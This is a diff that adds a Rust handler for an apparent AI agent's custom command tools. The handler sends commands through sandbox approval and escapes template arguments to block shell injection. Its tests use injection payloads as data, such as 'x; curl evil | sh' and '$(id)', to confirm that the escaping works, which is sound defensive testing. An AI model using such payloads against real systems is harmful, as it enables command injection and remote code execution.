@@ -0,0 +1,366 @@
+use async_trait::async_trait;
+use serde_json::Map;
+use serde_json::Value;
+
+use crate::config::types::CommandToolConfig;
+use crate::exec_env::create_env;
+use crate::exec_policy::create_exec_approval_requirement_for_command;
+use crate::function_tool::FunctionCallError;
+use crate::protocol::ExecCommandSource;
+use crate::sandboxing::SandboxPermissions;
+use crate::tools::context::ToolInvocation;
+use crate::tools::context::ToolOutput;
+use crate::tools::context::ToolPayload;
+use crate::tools::events::ToolEmitter;
+use crate::tools::events::ToolEventCtx;
+use crate::tools::orchestrator::ToolOrchestrator;
+use crate::tools::registry::ToolHandler;
+use crate::tools::registry::ToolKind;
+use crate::tools::runtimes::shell::ShellRequest;
+use crate::tools::runtimes::shell::ShellRuntime;
+use crate::tools::sandboxing::ToolCtx;
+use crate::truncate::truncate_text;
+
+/// Runs a command declared under `[tools.custom.<name>]`. The command goes
+/// through the same sandbox and approval flow as the shell tool; its stdout is
+/// returned to the model.
+pub struct CommandToolHandler {
+    config: CommandToolConfig,
+    parameters: Vec<String>,
+}
+
+impl CommandToolHandler {
+    pub fn new(config: CommandToolConfig) -> Self {
+        let parameters = config
+            .parameters
+            .as_ref()
+            .and_then(|parameters| parameters.get("properties"))
+            .and_then(Value::as_object)
+            .map(|properties| properties.keys().cloned().collect())
+            .unwrap_or_default();
+        Self { config, parameters }
+    }
+}
+
+#[async_trait]
+impl ToolHandler for CommandToolHandler {
+    fn kind(&self) -> ToolKind {
+        ToolKind::Function
+    }
+
+    fn is_mutating(&self, _invocation: &ToolInvocation) -> bool {
+        true
+    }
+
+    async fn handle(&self, invocation: ToolInvocation) -> Result<ToolOutput, FunctionCallError> {
+        let ToolInvocation {
+            session,
+            turn,
+            call_id,
+            tool_name,
+            payload,
+            ..
+        } = invocation;
+
+        let ToolPayload::Function { arguments } = payload else {
+            return Err(FunctionCallError::RespondToModel(format!(
+                "unsupported payload for command tool: {tool_name}"
+            )));
+        };
+
+        let arguments = if arguments.trim().is_empty() {
+            Map::new()
+        } else {
+            serde_json::from_str::<Map<String, Value>>(&arguments).map_err(|e| {
+                FunctionCallError::RespondToModel(format!(
+                    "failed to parse function arguments: {e:?}"
+                ))
+            })?
+        };
+        let command = expand_command(&self.config.command, &self.parameters, &arguments);
+        if command.is_empty() {
+            return Err(FunctionCallError::RespondToModel(format!(
+                "command tool {tool_name} has no command configured"
+            )));
+        }
+
+        let cwd = turn.cwd.clone();
+        let emitter =
+            ToolEmitter::shell(command.clone(), cwd.clone(), ExecCommandSource::Agent, true);
+        let event_ctx = ToolEventCtx::new(session.as_ref(), turn.as_ref(), &call_id, None);
+        emitter.begin(event_ctx).await;
+
+        let env = create_env(&turn.shell_environment_policy);
+        let features = session.features();
+        let exec_approval_requirement = create_exec_approval_requirement_for_command(
+            &turn.exec_policy,
+            &features,
+            &command,
+            &cwd,
+            &env,
+            turn.approval_policy,
+            &turn.sandbox_policy,
+            SandboxPermissions::UseDefault,
+        )
+        .await;
+
+        let req = ShellRequest {
+            command,
+            cwd,
+            timeout_ms: self.config.timeout_ms,
+            env,
+            with_escalated_permissions: None,
+            justification: None,
+            exec_approval_requirement,
+        };
+        let mut orchestrator = ToolOrchestrator::new();
+        let mut runtime = ShellRuntime::new();
+        let tool_ctx = ToolCtx {
+            session: session.as_ref(),
+            turn: turn.as_ref(),
+            call_id: call_id.clone(),
+            tool_name: tool_name.clone(),
+        };
+        let out = orchestrator
+            .run(&mut runtime, &req, &tool_ctx, &turn, turn.approval_policy)
+            .await;
+        let stdout = out
+            .as_ref()
+            .ok()
+            .map(|output| truncate_text(&output.stdout.text, turn.truncation_policy));
+        let event_ctx = ToolEventCtx::new(session.as_ref(), turn.as_ref(), &call_id, None);
+        // Non-zero exits, timeouts and rejections surface as errors carrying
+        // the full formatted output.
+        let content = emitter.finish(event_ctx, out).await?;
+        Ok(ToolOutput::Function {
+            content: stdout.unwrap_or(content),
+            content_items: None,
+            success: Some(true),
+        })
+    }
+}
+
+/// Shells whose `-c` script gets positional parameters instead of inline
+/// argument values.
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];
+
+/// Expands `{name}` placeholders in the command template. Only declared
+/// parameters are substituted so braces meant for the program (e.g. `${HOME}`
+/// passed to `sh -c`) are left alone.
+///
+/// A token consisting of a single placeholder is dropped when the argument is
+/// missing and expands to one token per element when the argument is an
+/// array. Placeholders embedded in a larger token are replaced in place.
+///
+/// Argument values are never spliced into a shell script: for
+/// `sh -c <script>` templates, placeholders in the script become quoted
+/// positional parameters (`"${1}"`) and the values are appended as separate
+/// arguments, so the model cannot inject shell syntax.
+fn expand_command(
+    template: &[String],
+    parameters: &[String],
+    arguments: &Map<String, Value>,
+) -> Vec<String> {
+    let script_index = shell_script_index(template);
+    let mut command = Vec::with_capacity(template.len());
+    let mut script_position = None;
+    for (index, token) in template.iter().enumerate() {
+        if Some(index) == script_index {
+            script_position = Some(command.len());
+            command.push(String::new());
+            continue;
+        }
+        if let Some(name) = token
+            .strip_prefix('{')
+            .and_then(|rest| rest.strip_suffix('}'))
+            && parameters.iter().any(|parameter| parameter == name)
+        {
+            match arguments.get(name) {
+                None | Some(Value::Null) => {}
+                Some(Value::Array(values)) => {
+                    command.extend(values.iter().map(argument_to_string));
+                }
+                Some(value) => command.push(argument_to_string(value)),
+            }
+            continue;
+        }
+        command.push(expand_token(token, parameters, arguments));
+    }
+    if let (Some(index), Some(position)) = (script_index, script_position) {
+        // Tokens after the script bind to `$0`, `$1`, ...; the values follow
+        // them, behind a `$0` placeholder if there are none.
+        let trailing = command.len() - position - 1;
+        let mut values = Vec::new();
+        command[position] = expand_script(
+            &template[index],
+            parameters,
+            arguments,
+            trailing.max(1),
+            &mut values,
+        );
+        if !values.is_empty() && trailing == 0 {
+            command.push("_".to_string());
+        }
+        command.extend(values);
+    }
+    command
+}
+
+/// Index of the script in a `<shell> -c <script> ...` template.
+fn shell_script_index(template: &[String]) -> Option<usize> {
+    let program = template.first()?;
+    let program = program.rsplit('/').next().unwrap_or(program);
+    let flag = template.get(1)?;
+    let is_command_flag = flag.starts_with('-') && !flag.starts_with("--") && flag.ends_with('c');
+    (SHELLS.contains(&program) && is_command_flag && template.len() > 2).then_some(2)
+}
+
+/// Replaces placeholders in a shell script with references to positional
+/// parameters starting at `first_position`, pushing the values onto `values`.
+fn expand_script(
+    script: &str,
+    parameters: &[String],
+    arguments: &Map<String, Value>,
+    first_position: usize,
+    values: &mut Vec<String>,
+) -> String {
+    let mut expanded = String::with_capacity(script.len());
+    let mut rest = script;
+    while let Some(start) = rest.find('{') {
+        expanded.push_str(&rest[..start]);
+        let after = &rest[start + 1..];
+        let Some(end) = after.find('}').filter(|end| {
+            parameters
+                .iter()
+                .any(|parameter| parameter == &after[..*end])
+        }) else {
+            expanded.push('{');
+            rest = after;
+            continue;
+        };
+        let arguments = match arguments.get(&after[..end]) {
+            None | Some(Value::Null) => vec![String::new()],
+            Some(Value::Array(items)) => items.iter().map(argument_to_string).collect(),
+            Some(value) => vec![argument_to_string(value)],
+        };
+        let references: Vec<String> = arguments
+            .into_iter()
+            .map(|value| {
+                values.push(value);
+                format!("\"${{{}}}\"", first_position + values.len() - 1)
+            })
+            .collect();
+        expanded.push_str(&references.join(" "));
+        rest = &after[end + 1..];
+    }
+    expanded.push_str(rest);
+    expanded
+}
+
+fn expand_token(token: &str, parameters: &[String], arguments: &Map<String, Value>) -> String {
+    let mut expanded = String::with_capacity(token.len());
+    let mut rest = token;
+    while let Some(start) = rest.find('{') {
+        expanded.push_str(&rest[..start]);
+        let after = &rest[start + 1..];
+        let Some(end) = after.find('}').filter(|end| {
+            parameters
+                .iter()
+                .any(|parameter| parameter == &after[..*end])
+        }) else {
+            expanded.push('{');
+            rest = after;
+            continue;
+        };
+        match arguments.get(&after[..end]) {
+            None | Some(Value::Null) => {}
+            Some(Value::Array(values)) => {
+                let values: Vec<String> = values.iter().map(argument_to_string).collect();
+                expanded.push_str(&values.join(" "));
+            }
+            Some(value) => expanded.push_str(&argument_to_string(value)),
+        }
+        rest = &after[end + 1..];
+    }
+    expanded.push_str(rest);
+    expanded
+}
+
+fn argument_to_string(value: &Value) -> String {
+    match value {
+        Value::String(value) => value.clone(),
+        other => other.to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use pretty_assertions::assert_eq;
+    use serde_json::json;
+
+    fn expand(template: &[&str], arguments: Value) -> Vec<String> {
+        let template: Vec<String> = template.iter().map(ToString::to_string).collect();
+        let parameters = vec!["target".to_string(), "files".to_string()];
+        let Value::Object(arguments) = arguments else {
+            panic!("arguments must be an object");
+        };
+        expand_command(&template, &parameters, &arguments)
+    }
+
+    #[test]
+    fn expands_embedded_and_standalone_placeholders() {
+        assert_eq!(
+            expand(
+                &["make", "lint", "TARGET={target}", "{files}"],
+                json!({ "target": "core", "files": ["a.rs", "b.rs"] }),
+            ),
+            vec!["make", "lint", "TARGET=core", "a.rs", "b.rs"]
+        );
+    }
+
+    #[test]
+    fn drops_standalone_placeholders_for_missing_arguments() {
+        assert_eq!(
+            expand(&["make", "lint", "{target}", "FILES={files}"], json!({})),
+            vec!["make", "lint", "FILES="]
+        );
+    }
+
+    #[test]
+    fn leaves_undeclared_placeholders_untouched() {
+        assert_eq!(
+            expand(
+                &["sh", "-c", "echo ${HOME} {target} {other}"],
+                json!({ "target": 3 }),
+            ),
+            vec!["sh", "-c", "echo ${HOME} \"${1}\" {other}", "_", "3"]
+        );
+    }
+
+    #[test]
+    fn passes_shell_script_arguments_as_positional_parameters() {
+        assert_eq!(
+            expand(
+                &["bash", "-lc", "make {target} && ls {files}"],
+                json!({ "target": "x; curl evil | sh", "files": ["a b", "$(id)"] }),
+            ),
+            vec![
+                "bash",
+                "-lc",
+                "make \"${1}\" && ls \"${2}\" \"${3}\"",
+                "_",
+                "x; curl evil | sh",
+                "a b",
+                "$(id)",
+            ]
+        );
+        assert_eq!(
+            expand(
+                &["/bin/sh", "-c", "echo {target} \"$@\"", "name", "fixed"],
+                json!({ "target": "`id`" }),
+            ),
+            vec!["/bin/sh", "-c", "echo \"${2}\" \"$@\"", "name", "fixed", "`id`"]
+        );
+    }
+}